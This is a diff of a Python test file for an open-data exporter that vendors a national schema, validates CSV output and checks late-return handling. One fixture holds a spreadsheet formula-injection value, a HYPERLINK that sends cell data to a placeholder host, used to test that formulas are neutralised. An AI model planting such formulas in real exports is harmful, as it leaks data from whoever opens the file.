@@ -3,26 +3,26 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import shutil
 import subprocess
+import sys
 from datetime import date, datetime, timezone
 from pathlib import Path
 
-import pytest
 from factory import TODAY, check, item, loan, member, place, write_dataset
 
 from generator.export import (STANDARD_FIELDS, items_json, neutralise, places_csv, places_geojson, places_json,
                               write_open_data)
 
 ROOT = Path(__file__).resolve().parent.parent
-STANDARD = ROOT.parent / "shared" / "reference" / "national-standard" / "schema.json"
-FRICTIONLESS = ROOT / ".venv" / "bin" / "frictionless"
+# The national standard is vendored inside the repository (never read from a folder beside it).
+STANDARD = ROOT / "reference" / "standard-mediation-num" / "schema.json"
+# frictionless is installed next to the Python that runs the tests (make install-test).
+FRICTIONLESS = Path(sys.executable).parent / "frictionless"
 STAMP = datetime(2026, 4, 1, tzinfo=timezone.utc)
-
-needs_standard = pytest.mark.skipif(not STANDARD.is_file(),
-                                    reason=f"schéma du standard national absent ({STANDARD})")
 
 INJECTED = {
     "nom": '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez ici")',
@@ -47,13 +47,11 @@ def _rows(csv_bytes: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8"))))
 
 
-@needs_standard
 def test_columns_follow_the_standard_order() -> None:
     schema = json.loads(STANDARD.read_text(encoding="utf-8"))
     assert list(STANDARD_FIELDS) == [field["name"] for field in schema["fields"]]
 
 
-@needs_standard
 def test_sample_data_exports_a_valid_directory(sample_data: Path, tmp_path: Path) -> None:
     outcome = check(sample_data, TODAY)
     assert outcome.errors == []
@@ -94,7 +92,6 @@ def test_csv_quotes_every_cell_like_the_standard_example(tmp_path: Path) -> None
     assert first_row.startswith('"lieu-a","12345678200002","Autre lieu","Saint-Lô","50000"')
 
 
-@needs_standard
 def test_formulas_are_neutralised_and_the_row_stays_valid(tmp_path: Path) -> None:
     dataset = _dataset_with(tmp_path, **INJECTED)
     csv_bytes = places_csv(dataset)
@@ -173,3 +170,55 @@ def test_calendar_json_covers_two_months_back_and_six_ahead(tmp_path: Path) -> N
     write_open_data(dataset, tmp_path / "out", STAMP)
     payload = json.loads((tmp_path / "out" / "calendrier" / "disponibilites.json").read_text(encoding="utf-8"))
     assert payload["periode"] == {"debut": "2026-02-15", "fin": "2026-10-14"}
+
+
+def test_the_vendored_standard_is_v1_0_2_with_its_licence_and_checksums() -> None:
+    schema = json.loads(STANDARD.read_text(encoding="utf-8"))
+    assert (schema["name"], schema["version"]) == ("standard-mediation-num", "v1.0.2")
+    assert [licence["name"] for licence in schema["licenses"]] == ["etalab-2.0"]
+    notice = (STANDARD.parent / "README.md").read_text(encoding="utf-8")
+    for name in ("schema.json", "exemple-valide.csv"):
+        digest = hashlib.sha256((STANDARD.parent / name).read_bytes()).hexdigest()
+        assert f"`{digest}`" in notice, name
+    assert "Licence Ouverte" in (STANDARD.parent / "LICENCE.md").read_text(encoding="utf-8")
+
+
+def test_the_standard_example_is_valid_against_the_vendored_schema(tmp_path: Path) -> None:
+    example = (STANDARD.parent / "exemple-valide.csv").read_bytes()
+    result = _validate_with_frictionless(example, tmp_path)
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_the_export_checks_pass_from_the_repository_alone(tmp_path: Path) -> None:
+    """A clone with no folder beside it: the export tests run, none is skipped."""
+    listed = subprocess.run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"],
+                            cwd=ROOT, capture_output=True, check=True).stdout.decode("utf-8")
+    clone = tmp_path / "seul" / "depot"
+    for name in filter(None, listed.split("\0")):
+        source = ROOT / name
+        if source.is_file() and not source.is_symlink():
+            (clone / name).parent.mkdir(parents=True, exist_ok=True)
+            shutil.copyfile(source, clone / name)
+    assert sorted(path.name for path in (tmp_path / "seul").iterdir()) == ["depot"]
+    result = subprocess.run([sys.executable, "-m", "pytest", "-q", "-rs", "-p", "no:cacheprovider",
+                             "tests/test_export.py", "-k", "not repository_alone"],
+                            cwd=clone, capture_output=True, text=True, timeout=600)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "skipped" not in result.stdout and " passed" in result.stdout, result.stdout
+
+
+def test_a_late_return_does_not_stop_the_export(tmp_path: Path) -> None:
+    """An item still out after its last day is a situation to handle, not a fault in the data."""
+    from generator.cli import main
+
+    late = loan(statut="retire", debut="2026-04-07", fin="2026-04-09", retrait="2026-04-07T09:00",
+                restitution="2026-04-09T16:00",
+                etat_retrait={"date": "2026-04-07T09:00", "par": "agent-dep", "composants": [
+                    {"materiel": "kit-vr", "composant": "valise", "etat": "bon"},
+                    {"materiel": "kit-vr", "composant": "casque", "etat": "bon"}]})
+    data_dir = write_dataset(tmp_path, loans=[late])
+    outcome = check(data_dir, date(2026, 4, 15))
+    assert [f.rule for f in outcome.errors] == ["retard-restitution"] and outcome.faults == []
+    code = main(["export", "--data", str(data_dir), "--today", "2026-04-15", "--out", str(tmp_path / "exports")])
+    assert code == 0
+    assert (tmp_path / "exports" / "reservations.json").is_file()
